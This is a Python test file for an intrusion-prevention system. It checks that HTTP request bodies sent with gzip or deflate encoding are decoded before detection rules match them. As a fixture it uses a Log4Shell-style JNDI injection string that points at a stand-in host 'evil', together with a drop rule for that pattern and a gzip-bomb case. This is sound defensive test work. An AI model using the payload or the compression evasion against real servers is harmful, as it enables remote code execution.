"""A request body sent with Content-Encoding gzip/deflate, as the server reads it.

Apache's mod_deflate input filter (and others) decode such a body before the application sees
it, and Suricata inspects it decoded; the HTTP reader (csrc/http.c) matched `http.request_body`
rules on the compressed bytes, so gzip was a way past any body rule: found by replaying OISF
suricata-verify's http-post-data-decompression capture (a real Apache echoing the decoded form
field: Suricata alerts, vhostni did not)."""
import gzip
import os
import zlib

from scapy.all import IP, TCP, Ether, Raw

from test_replay import GIP, GUEST, ROUTER, Capture, replay_rules

HERE = os.path.dirname(os.path.abspath(__file__))
# suricata-verify's tests/http-post-data-decompression/input.pcap, unchanged (commit
# 10a45e4bad6d29d0f1239d93119ea24e1bbdab19; MIT licence, tests/data/signatures/LICENSE.suricata-verify.txt)
SV_PCAP = os.path.join(HERE, "data", "signatures", "sv-http-post-data-decompression.pcap")
SV_SERVER_MAC = "00:0c:29:d0:8d:88"


replay = replay_rules


def test_real_capture_gzip_request_body_is_matched_decoded(tmp_path):
    rule = 'alert http any any -> any any (msg:"GZIPPED REQUEST"; flow:established,to_server; ' \
           'content:"name"; http_client_body; nocase; sid:1;)\n'          # the test's own rule
    alerts, _ = replay(tmp_path, SV_PCAP, rule, SV_SERVER_MAC)
    assert [a["alert"]["signature_id"] for a in alerts] == [1]


def post(tmp_path, body: bytes, coding: str):
    head = (f"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Encoding: {coding}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()

    def to_guest(flags, seq, ack, data=b""):
        p = Ether(src=ROUTER, dst=GUEST) / IP(src="10.0.0.9", dst=GIP) / TCP(
            sport=41000, dport=80, flags=flags, seq=seq, ack=ack, window=65535)
        return p / Raw(data) if data else p

    cap = Capture()
    cap.add(to_guest("S", 999, 0))
    cap.add(Ether(src=GUEST, dst=ROUTER) / IP(src=GIP, dst="10.0.0.9") / TCP(
        sport=80, dport=41000, flags="SA", seq=4999, ack=1000, window=65535))
    cap.add(to_guest("A", 1000, 5000))
    cap.add(to_guest("PA", 1000, 5000, head + body))
    return cap.write(tmp_path / "in.pcap")


DROP_JNDI = 'drop http any any -> $HOME_NET any (msg:"jndi in body"; http.request_body; content:"${jndi:"; sid:7;)\n'
PAYLOAD = b"user=x&q=${jndi:ldap://evil/a}"


def test_gzip_and_deflate_bodies_are_stopped(tmp_path):
    for coding, body in (("gzip", gzip.compress(PAYLOAD)), ("x-gzip", gzip.compress(PAYLOAD)),
                         ("deflate", zlib.compress(PAYLOAD)),
                         ("deflate", zlib.compress(PAYLOAD)[2:-4]),          # raw deflate
                         ("gzip, identity", gzip.compress(PAYLOAD)),
                         ("deflate, gzip", gzip.compress(zlib.compress(PAYLOAD)))):
        d = tmp_path / f"{coding.replace(', ', '-')}-{len(body)}"
        d.mkdir()
        alerts, out = replay(d, post(d, body, coding), DROP_JNDI, GUEST, [f"{GIP}/32"])
        assert [a["alert"]["signature_id"] for a in alerts] == [7], coding
        assert not any(TCP in Ether(x) and Ether(x)[TCP].dport == 80 and len(Ether(x)[TCP].payload)
                       for x in out), coding


def test_a_body_that_does_not_decode_or_an_unknown_coding_is_read_as_sent(tmp_path):
    for coding, body in (("gzip", PAYLOAD), ("br", PAYLOAD)):
        d = tmp_path / coding
        d.mkdir()
        alerts, _ = replay(d, post(d, body, coding), DROP_JNDI, GUEST, [f"{GIP}/32"])
        assert [a["alert"]["signature_id"] for a in alerts] == [7], coding


def test_a_gzip_bomb_is_decoded_only_up_to_the_body_limit(tmp_path):
    body = gzip.compress(b"A" * (8 << 20) + PAYLOAD)          # 8 MiB of A, then the payload
    alerts, _ = replay(tmp_path, post(tmp_path, body, "gzip"), DROP_JNDI, GUEST, [f"{GIP}/32"])
    assert alerts == []                 # past http_body_limit (64 KiB): not inspected, as Suricata
